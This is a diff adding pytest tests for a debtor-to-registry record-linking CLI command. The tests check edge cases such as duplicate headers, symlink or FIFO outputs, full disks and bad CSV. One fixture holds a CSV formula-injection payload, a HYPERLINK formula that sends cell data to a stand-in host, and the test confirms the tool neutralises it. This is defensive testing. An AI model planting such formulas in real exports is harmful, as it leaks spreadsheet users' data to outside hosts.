@@ -1,0 +1,133 @@
+"""``link`` against files and paths a hostile review tried: a repeated header, an output that
+is a link or a pipe, a full disk, repeated or blank ids, a registry id that is a formula, a
+file with no readable row."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import io
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from skiptrace.cli import app, link_cmd
+
+EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
+DEBTORS, REGISTRY = str(EXAMPLES / "debtors.csv"), str(EXAMPLES / "registry.csv")
+
+
+def _link(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(app, ["link", *args])
+    return result.exit_code, result.stdout, result.stderr
+
+
+def _pairs(stdout: str) -> list[tuple[str, str]]:
+    return [(r["left_id"], r["right_id"]) for r in csv.DictReader(io.StringIO(stdout))]
+
+
+def test_a_repeated_header_is_read_from_its_first_column(tmp_path: Path) -> None:
+    """Two columns named ``name`` (the debtor, then a co-signer): the columns line said
+    full_name=name, and the co-signer's values were compared: Jane Roe linked, high, to John
+    Smith. The first column is read, as enrich reads it."""
+    left = tmp_path / "left.csv"
+    left.write_text("id,name,address,zip,name\nA1,Jane Roe,9 Elm St,62701,John Smith\n")
+    right = tmp_path / "right.csv"
+    right.write_text("id,name,address,zip\nR1,Jane Roe,9 Elm St,62701\n"
+                     "R2,John Smith,9 Elm St,62701\n")  # fmt: skip
+    code, out, _ = _link(str(left), str(right))
+    assert code == 0 and _pairs(out) == [("A1", "R1")], out
+
+
+@pytest.mark.parametrize("kind", ["symbolic link", "FIFO"])
+def test_an_output_that_is_not_a_regular_file_is_refused_and_kept(
+    tmp_path: Path, kind: str
+) -> None:
+    """The output is written beside it and renamed over it: a symbolic link was replaced by a
+    file (its target left stale), and a device node (``-o /dev/null`` as root) by a file of
+    links."""
+    output = tmp_path / "out.csv"
+    if kind == "FIFO":
+        os.mkfifo(output)
+    else:
+        (tmp_path / "target.csv").write_text("kept\n")
+        output.symlink_to(tmp_path / "target.csv")
+    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(output))
+    assert code == 2 and kind in err, err
+    assert output.is_symlink() if kind != "FIFO" else output.is_fifo()
+    assert sorted(p.name for p in tmp_path.iterdir() if "partial" in p.name) == []
+
+
+def test_a_failed_write_leaves_no_partial_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """On a full disk the close of the partial file failed again, and the partial file, named
+    at random, stayed for good: one more each run, on a disk already full."""
+
+    class Full(io.StringIO):
+        def close(self) -> None:
+            raise OSError(errno.ENOSPC, "No space left on device")
+
+    real = link_cmd._Output.__enter__
+
+    def enter(self: link_cmd._Output) -> link_cmd._Output:
+        real(self)
+        assert self._handle is not None
+        self._handle.close()
+        self._handle = Full()
+        return self
+
+    monkeypatch.setattr(link_cmd._Output, "__enter__", enter)
+    code, _, err = _link(DEBTORS, REGISTRY, "-o", str(tmp_path / "out.csv"))
+    assert code == 2 and "No space left on device" in err, err
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_repeated_and_blank_ids_are_said(tmp_path: Path) -> None:
+    left = tmp_path / "left.csv"
+    left.write_text("id,name,zip\nA1,Jane Roe,62701\nA1,John Smith,62701\n,Bob Quinlan,62701\n")
+    right = tmp_path / "right.csv"
+    right.write_text("id,name,zip\nR1,Jane Roe,62701\nR2,John Smith,62701\n"
+                     "R3,Bob Quinlan,62701\n")  # fmt: skip
+    code, out, err = _link(str(left), str(right))
+    assert code == 0 and {("", "R3"), ("A1", "R1")} <= set(_pairs(out)), out
+    assert f"{left}: 2 records share an id with another, 1 has none: their links" in err, err
+    code, _, err = _link(DEBTORS, REGISTRY)  # ids each its own: nothing to say
+    assert code == 0 and "share an id" not in err and "none:" not in err, err
+
+
+def test_a_registry_id_is_written_neutralised(tmp_path: Path) -> None:
+    """A bulk registry is a third party's text: its ids are written as the found_ columns
+    are, a formula made inert."""
+    left = tmp_path / "left.csv"
+    left.write_text("id,name,zip\nA1,Jane Roe,62701\n")
+    right = tmp_path / "right.csv"
+    right.write_text('ref,name,zip\n"=HYPERLINK(""http://x.example/?""&A2)",Jane Roe,62701\n')
+    code, out, _ = _link(str(left), str(right))
+    assert code == 0 and _pairs(out) == [("A1", '\'=HYPERLINK("http://x.example/?"&A2)')]
+
+
+def test_a_file_with_no_readable_row_is_bad_input_and_the_output_is_kept(
+    tmp_path: Path,
+) -> None:
+    left = tmp_path / "left.csv"
+    left.write_text('id,name,zip\nA1,"Jane Roe,62701\n')  # a quote never closed
+    output = tmp_path / "out.csv"
+    output.write_text("earlier links\n")
+    code, _, err = _link(str(left), REGISTRY, "-o", str(output))
+    assert code == 2 and f"{left}: no record could be read" in err, err
+    assert output.read_text() == "earlier links\n"
+
+
+def test_stdout_that_cannot_be_written_is_named(tmp_path: Path) -> None:
+    command = [sys.executable, "-m", "skiptrace", "link", DEBTORS, REGISTRY]
+    env = {**os.environ, "SKIPTRACE_HOME": str(tmp_path / "home")}
+    with open("/dev/full", "w") as full:
+        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, text=True,
+                              timeout=120, env=env)  # fmt: skip
+    assert done.returncode == 2
+    assert "cannot write stdout: No space left on device" in done.stderr, done.stderr
